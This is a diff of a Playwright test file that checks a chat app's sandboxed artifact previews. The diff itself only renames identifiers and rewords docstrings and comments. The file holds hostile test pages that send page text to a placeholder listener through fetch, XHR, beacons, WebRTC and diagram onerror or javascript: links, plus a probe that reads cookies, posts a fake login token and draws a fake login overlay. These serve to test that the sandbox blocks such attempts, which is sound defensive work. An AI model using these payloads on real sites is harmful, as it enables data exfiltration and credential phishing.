@@ -21,8 +21,8 @@ CLOCK = """<!doctype html><title>Clock</title>
 <script>document.getElementById("now").textContent = "it runs";</script>"""
 SVG = """<svg viewBox="0 0 10 10" width="100" height="100"><title>Dot</title>
 <circle cx="5" cy="5" r="4" fill="teal" /></svg>"""
-BEGUN = "document.title = 'begun'"
-"""What hostile documents do first, so that a test knows that their scripts ran."""
+MARK_AS_BEGUN = "document.title = 'begun'"
+"""The first statement of hostile documents, by which a test knows that their scripts ran."""
 
 
 def fenced(code: str, info: str = 'html title="Clock"') -> str:
@@ -42,7 +42,7 @@ async def open_card(chat: Chat, name: str = "Open: Clock") -> None:
     heading = chat.page.locator(".artifact-panel h2")
     await card.click()
     while name.removeprefix("Open: ") not in await heading.all_inner_texts():
-        await card.click()  # an answer that is drawn anew at its end takes its cards along
+        await card.click()  # an answer is drawn again at its end, with its cards
     await expect(chat.page.locator(".artifact-panel")).to_be_visible()
 
 
@@ -57,7 +57,7 @@ async def run_artifact(chat: Chat) -> Frame:
 
 
 async def overlook_refusals(chat: Chat) -> None:
-    """Take no notice of what the console says about the artifact: that much was refused."""
+    """Ignore the messages of the console about the artifact's requests that were refused."""
     chat.leave()
     await chat.page.goto(f"{chat.up.url}/manifest.webmanifest")
     chat.faults.clear()
@@ -89,7 +89,7 @@ async def test_short_examples_and_other_languages_stay_code(chat: Chat) -> None:
     await expect(chat.page.locator(".artifact")).to_have_count(0)
 
 
-async def test_a_page_runs_only_when_it_is_told_to_and_ends_with_stop(chat: Chat) -> None:
+async def test_a_page_runs_only_on_request_and_ends_with_stop(chat: Chat) -> None:
     await answer(chat, fenced(CLOCK) + "\n\n" + fenced("<p>Other</p>", 'html title="Other"'))
     await open_card(chat)
     panel = chat.page.locator(".artifact-panel")
@@ -158,10 +158,10 @@ async def test_markdown_is_drawn_by_the_page_itself(chat: Chat) -> None:
     panel = chat.page.locator(".artifact-panel")
     await expect(panel.locator("strong")).to_have_text("two")
     await expect(panel.locator("img, iframe")).to_have_count(0)
-    async with chat.page.expect_download() as saved:
+    async with chat.page.expect_download() as download_info:
         await panel.get_by_role("button", name="Download").click()
-    file = await (await saved.value).path()
-    assert (await saved.value).suggested_filename == "Plan.md"
+    file = await (await download_info.value).path()
+    assert (await download_info.value).suggested_filename == "Plan.md"
     assert Path(file).read_text("utf-8").strip() == text.strip()
 
 
@@ -171,13 +171,13 @@ async def test_a_diagram_is_drawn_and_its_text_does_nothing(chat: Chat) -> None:
             "graph TD\n  A[Start] --> B[\"<img src='L/i' onerror='top.x=1'>End\"]\n"
             "  click B href \"javascript:fetch('L/c')\"\n"
         )
-        await answer(chat, fenced(written(hostile, listener), 'mermaid title="Way"'))
+        await answer(chat, fenced(fill_in(hostile, listener), 'mermaid title="Way"'))
         await open_card(chat, "Open: Way")
         element = await chat.page.locator("iframe").element_handle()
         frame = await element.content_frame()
         assert frame
         await expect(frame.locator("svg")).to_contain_text("Start")
-        assert await frame.locator("script").count() == 2  # ours
+        assert await frame.locator("script").count() == 2  # those of the chat
         assert "javascript:" not in await frame.locator("svg").evaluate("it => it.outerHTML")
         assert listener.heard == []
 
@@ -206,7 +206,7 @@ async def test_an_artifact_of_a_branch_is_shown_there_too(chat: Chat) -> None:
     assert await frame.locator("#now").inner_text() == "it runs"
 
 
-async def test_without_a_second_origin_there_is_code_and_a_word(
+async def test_without_a_second_origin_there_is_code_and_an_explanation(
     chromium: Browser, tmp_path: Path
 ) -> None:
     # Opened under a name that is not this machine's, as behind a proxy.
@@ -222,7 +222,7 @@ async def test_without_a_second_origin_there_is_code_and_a_word(
         assert "frame-src" not in shell.headers["content-security-policy"]
 
 
-# Documents that mean harm. `L` is an origin that listens, `TCP` and `UDP` are its ports.
+# Hostile documents. `L` is the origin of the listener, `TCP` and `UDP` are its ports.
 
 RTC = """const line = new RTCPeerConnection({ iceServers: [SERVER] });
 line.createDataChannel("x");
@@ -232,7 +232,7 @@ TURN = RTC.replace(
     "SERVER",
     '{ urls: "turn:127.0.0.1:TCP?transport=tcp", username: "secret", credential: "x" }',
 )
-LEAVING = {
+ATTEMPTS = {
     "fetch": "fetch('L/fetch?' + document.body.textContent).catch(() => {});",
     "xhr": "const x = new XMLHttpRequest(); x.open('POST', 'L/xhr'); x.send('x');",
     "beacon": "navigator.sendBeacon('L/beacon', 'x');",
@@ -285,25 +285,25 @@ PASSIVE = """<meta http-equiv="refresh" content="0;url=L/meta"><base href="L/">
 <embed src="L/e"><svg><image href="L/si"/><use href="L/su#x"/></svg>
 <input type="image" src="L/in"><body background="L/bg"><table background="L/tb"></table>"""
 NAVIGATING = ("form", "self", "replace", "script address", "blob", "data", "refresh", "download")
-"""Attempts that replace their document, and so end those that follow; each has one of its own."""
+"""Attempts that replace their document, and so end later ones; each has its own document."""
 HELPER = """const tried = [];
 const add = (tag) => document.body.appendChild(document.createElement(tag));"""
 ALARM = "setTimeout(() => { document.title = 'over'; }, 0);"
 
 
-def written(code: str, listener: Listener) -> str:
-    """A hostile document, with the addresses of the listener."""
+def fill_in(code: str, listener: Listener) -> str:
+    """Return the code with the addresses of the listener."""
     ports = code.replace("TCP", str(listener.tcp)).replace("UDP", str(listener.udp))
     return ports.replace("L/", f"{listener.origin}/").replace('"L"', f'"{listener.origin}"')
 
 
 def hostile_document(names: Sequence[str], listener: Listener) -> str:
-    """A document that tries these one after the other, whatever becomes of those before."""
+    """Return a document that makes these attempts in turn, even after errors."""
     scripts = (
-        f"<script>{{ tried.push('{name}');\n{written(LEAVING[name], listener)} }}</script>"
+        f"<script>{{ tried.push('{name}');\n{fill_in(ATTEMPTS[name], listener)} }}</script>"
         for name in names
     )
-    return f"<body>secret<script>{BEGUN};{HELPER}</script>{''.join(scripts)}"
+    return f"<body>secret<script>{MARK_AS_BEGUN};{HELPER}</script>{''.join(scripts)}"
 
 
 async def wait_until_drawn(page: Page) -> None:
@@ -313,11 +313,11 @@ async def wait_until_drawn(page: Page) -> None:
 
 
 async def test_nothing_that_a_document_tries_leaves_the_browser(chat: Chat) -> None:
-    staying = [name for name in LEAVING if name not in NAVIGATING]
+    staying = [name for name in ATTEMPTS if name not in NAVIGATING]
     async with listening() as listener:
         documents = {name: hostile_document([name], listener) for name in NAVIGATING}
         documents |= {"staying": hostile_document(staying, listener)}
-        documents |= {"passive": written(PASSIVE, listener)}
+        documents |= {"passive": fill_in(PASSIVE, listener)}
         blocks = [fenced(code, f'html title="{name}.html"') for name, code in documents.items()]
         await answer(chat, "\n\n".join(blocks))
         for name in documents:
@@ -326,18 +326,18 @@ async def test_nothing_that_a_document_tries_leaves_the_browser(chat: Chat) -> N
             await wait_until_drawn(chat.page)
             if name == "staying":
                 assert await frame.evaluate("tried") == staying
-        await prove_that_it_listens(chat, listener)
+        await check_that_nothing_was_received(chat, listener)
 
         assert chat.page.url.startswith(chat.up.url)
         assert len(chat.context.pages) == 1
-        refused = await chat.page.evaluate("window.reports")
-        assert len(refused) > 4  # attempts to leave, which the policy of the page reports
-        assert {each.partition(":")[0] for each in refused} == {"frame-src"}
+        reports = await chat.page.evaluate("window.reports")
+        assert len(reports) > 4  # attempts to leave, which the policy of the page reports
+        assert {each.partition(":")[0] for each in reports} == {"frame-src"}
     await overlook_refusals(chat)
 
 
-async def prove_that_it_listens(chat: Chat, listener: Listener) -> None:
-    """Nothing was heard so far; what is sent without a policy now is."""
+async def check_that_nothing_was_received(chat: Chat, listener: Listener) -> None:
+    """Check that nothing was received so far, and that packets without a policy are received."""
     other = await chat.context.new_page()
     await other.goto(f"{listener.origin}/proof")
     await other.evaluate(STUN.replace("UDP", str(listener.udp)))
@@ -345,23 +345,25 @@ async def prove_that_it_listens(chat: Chat, listener: Listener) -> None:
         while not any(packet[4:8] == b"\x21\x12\xa4\x42" for packet in listener.heard):
             await other.evaluate("new Promise((end) => setTimeout(end, 20))")
     await other.close()
-    pages = [said for said in listener.heard if said[4:8] != b"\x21\x12\xa4\x42"]
-    strange = [said for said in pages if b" /proof " not in said and b"favicon" not in said]
-    assert strange == []
+    requests = [packet for packet in listener.heard if packet[4:8] != b"\x21\x12\xa4\x42"]
+    unexpected = [
+        packet for packet in requests if b" /proof " not in packet and b"favicon" not in packet
+    ]
+    assert unexpected == []
     assert listener.heard[0].startswith(b"GET /proof ")
 
 
 async def show(chat: Chat, name: str, code: str) -> Frame:
-    """Have the model write this document, and run it."""
+    """Have the model write this document, run it, and return its frame."""
     await answer(chat, fenced(code, f'html title="{name}"'))
     await open_card(chat, f"Open: {name}")
     return await run_artifact(chat)
 
 
-LOOKING = """
-const found = {};
+PROBE = """
+const results = {};
 function attempt(name, act) {
-  try { found[name] = String(act()); } catch { found[name] = "no"; }
+  try { results[name] = String(act()); } catch { results[name] = "no"; }
 }
 attempt("cookie", () => document.cookie);
 attempt("cookie set", () => { document.cookie = "antiphon_session=x"; return "set"; });
@@ -377,19 +379,19 @@ attempt("referrer", () => document.referrer);
 attempt("question", () => confirm("x"));
 attempt("origin", () => origin);
 parent.postMessage({ type: "login", token: "x" }, "*");
-document.body.textContent = JSON.stringify(found);
+document.body.textContent = JSON.stringify(results);
 """
 
 
 async def test_a_document_reads_and_reaches_nothing_of_the_page(chat: Chat) -> None:
     before = await chat.context.cookies()
-    padded = f"<body>{' ' * 200}<script>{LOOKING}</script>"
+    padded = f"<body>{' ' * 200}<script>{PROBE}</script>"
     frame = await show(chat, "look.html", padded)
-    found = json.loads(await frame.locator("body").inner_text())
+    results = json.loads(await frame.locator("body").inner_text())
 
-    read = ("frame", "referrer", "question", "origin")
-    assert {found.pop(name) for name in read} == {"null", "", "false"}
-    assert set(found.values()) == {"no"}, found
+    readable = ("frame", "referrer", "question", "origin")
+    assert {results.pop(name) for name in readable} == {"null", "", "false"}
+    assert set(results.values()) == {"no"}, results
     assert await chat.context.cookies() == before
     await wait_until_drawn(chat.page)
     await expect(chat.page.locator(".artifact-panel")).to_contain_text("look.html")
@@ -410,7 +412,7 @@ async def test_a_document_that_loops_does_not_stop_the_page(
     chromium: Browser, tmp_path: Path, code: str
 ) -> None:
     async with chatting(chromium, tmp_path, "--no-servers", fresh=True) as chat:
-        await answer(chat, fenced(f"<script>{BEGUN};{code}</script>{' ' * 200}"))
+        await answer(chat, fenced(f"<script>{MARK_AS_BEGUN};{code}</script>{' ' * 200}"))
         await open_card(chat)
         await chat.page.locator(".artifact-panel").get_by_role("button", name="Run").click()
         await expect(chat.page.locator("iframe")).to_have_count(1)
@@ -423,7 +425,9 @@ async def test_a_document_that_loops_does_not_stop_the_page(
         await overlook_refusals(chat)
 
 
-async def test_what_looks_like_the_login_stands_under_our_bar(chat: Chat) -> None:
+async def test_a_document_that_looks_like_the_login_stands_below_the_bar_of_the_chat(
+    chat: Chat,
+) -> None:
     code = """<style>body { position: fixed; inset: 0; z-index: 9999 }</style>
     <h1>Antiphon</h1><form><input name="password" type="password"><button>Log in</button></form>"""
     frame = await show(chat, "Log in", code)
@@ -449,7 +453,7 @@ async def test_a_preview_is_not_opened_outside_of_the_chat(chat: Chat) -> None:
     assert "it runs" not in await other.content()
 
     async with listening() as listener:
-        # Another site that frames it: its policy names the page of the chat alone.
+        # The policy of the preview allows frames of the page of the chat alone.
         await other.goto(f"{listener.origin}/")
         await other.set_content(f"<iframe sandbox='allow-scripts' src='{frame.url}'></iframe>")
         await other.wait_for_load_state()
@@ -458,7 +462,7 @@ async def test_a_preview_is_not_opened_outside_of_the_chat(chat: Chat) -> None:
     await overlook_refusals(chat)
 
 
-# Everybody can use it.
+# Accessibility.
 
 
 @pytest.mark.slow
